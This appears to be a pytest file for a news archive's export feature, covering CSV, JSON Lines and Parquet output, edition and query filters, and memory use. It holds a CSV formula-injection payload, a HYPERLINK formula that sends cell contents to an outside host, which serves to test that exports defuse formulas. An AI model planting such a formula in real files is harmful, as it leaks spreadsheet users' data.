"""Tables for others: CSV that no spreadsheet runs, JSON Lines, Parquet; whole, by edition, by query."""

from __future__ import annotations

import csv
import io
import json
import sys
import tracemalloc
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from citydesk.archive import Archive, crawling
from citydesk.archive.datasets import ARTICLES, DATASETS, rows
from citydesk.pipeline.compile import compile_issue
from citydesk.pipeline.tables import WRITERS, cell, plain, write_csv
from citydesk.settings import load_settings
from digest.period import between
from tests.fakes import ROOT, article, run_process, source
from tests.test_citydesk_cli import Run, run
from tests.test_citydesk_pipeline import LIBRARY, LINE_FOUR, put

__all__ = ["run"]
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"click")'
TRAM = article("tram", LINE_FOUR, title="Council approves tram line 4", days=5)
COPY = article("line-4", LINE_FOUR, title="Council approves tram line 4", days=4, source="riga")
BOOKS = article("books", LIBRARY, title=HOSTILE, days=3)


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    found = tmp_path_factory.mktemp("export") / "archive.sqlite"
    settings = load_settings(ROOT / "config", {})
    with Archive(found) as archive:
        crawling.save_sources(archive, [source("ghent"), source("riga")])
        put(archive, TRAM, COPY, BOOKS)
        run_process(archive)
        week = between(date(2026, 11, 9), date(2026, 11, 15))
        compile_issue(archive, settings.editions[0], week, settings.vocabulary, settings.sources, "https://x.example/")
    return found


@pytest.fixture
def archive(path: Path) -> Iterator[Archive]:
    with Archive(path) as opened:
        yield opened


def test_csv_holds_no_formula_and_gives_back_every_value(archive: Archive) -> None:
    out = io.BytesIO()
    assert WRITERS["csv"](rows(archive, ARTICLES), ARTICLES, out) == 3
    found = {row["id"]: row for row in csv.DictReader(io.StringIO(out.getvalue().decode(), newline=""))}

    assert found[BOOKS.id]["title"] == f"'{HOSTILE}"
    assert plain(found[BOOKS.id]["title"]) == HOSTILE
    assert found[TRAM.id]["text"] == TRAM.text
    assert found[TRAM.id]["story"] == found[COPY.id]["story"] != found[BOOKS.id]["story"]
    assert json.loads(found[TRAM.id]["cities"]) == ["ghent"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "|", "%"])
def test_what_could_begin_a_formula_is_defused_and_given_back(start: str) -> None:
    assert cell(f"{start}1+1") == f"'{start}1+1"
    assert plain(str(cell(f"{start}1+1"))) == f"{start}1+1"
    assert cell(-1.5) == -1.5


def test_json_lines_and_parquet_say_the_same(archive: Archive, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    for name, dataset in DATASETS.items():
        lines, table = io.BytesIO(), io.BytesIO()
        WRITERS["jsonl"](rows(archive, dataset), dataset, lines)
        count = WRITERS["parquet"](rows(archive, dataset), dataset, table)
        read = pq.read_table(table).to_pylist()
        said = [json.loads(line) for line in lines.getvalue().splitlines()]
        times = [column for column, kind, _ in dataset.columns if kind == "time"]
        for row in read:
            row |= {column: f"{row[column]:%Y-%m-%dT%H:%M:%SZ}" for column in times if row[column]}
        assert read == said
        assert count == len(said) > 0, name


def test_export_gives_an_edition_a_query_or_all(run: Run, path: Path, tmp_path: Path) -> None:
    def exported(*words: str) -> list[str]:
        out = tmp_path / "out.jsonl"
        said = run("--archive", str(path), "export", *words, "--format", "jsonl", "--out", str(out))
        assert said.code == 0, said.err
        return [json.loads(line)["id"] for line in out.read_text().splitlines()]

    assert set(exported()) == {TRAM.id, COPY.id, BOOKS.id}
    assert set(exported("--query", "tram harbour")) == {TRAM.id, COPY.id}
    assert set(exported("--edition", "network")) == {TRAM.id, COPY.id, BOOKS.id}
    assert len(exported("stories", "--query", "volunteers")) == 1
    assert run("export", "--edition", "nothing").err == 'citydesk: no edition is named "nothing"\n'
    assert list(tmp_path.glob("*.part")) == []


def test_many_rows_take_no_more_memory_than_a_few() -> None:
    many = ({"id": str(number), "text": "x" * 1000} for number in range(10_000))
    tracemalloc.start()
    with open("/dev/null", "wb") as sink:  # noqa: PTH123
        write_csv(many, ["id", "text"], sink)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 1_000_000


def test_without_pyarrow_the_extra_is_named(run: Run, path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    said = run("--archive", str(path), "export", "--format", "parquet", "--out", "x.parquet")
    assert (said.code, said.err) == (
        1, 'citydesk: Parquet needs pyarrow: install citydesk with the extra "parquet"\n'
    )  # fmt: skip
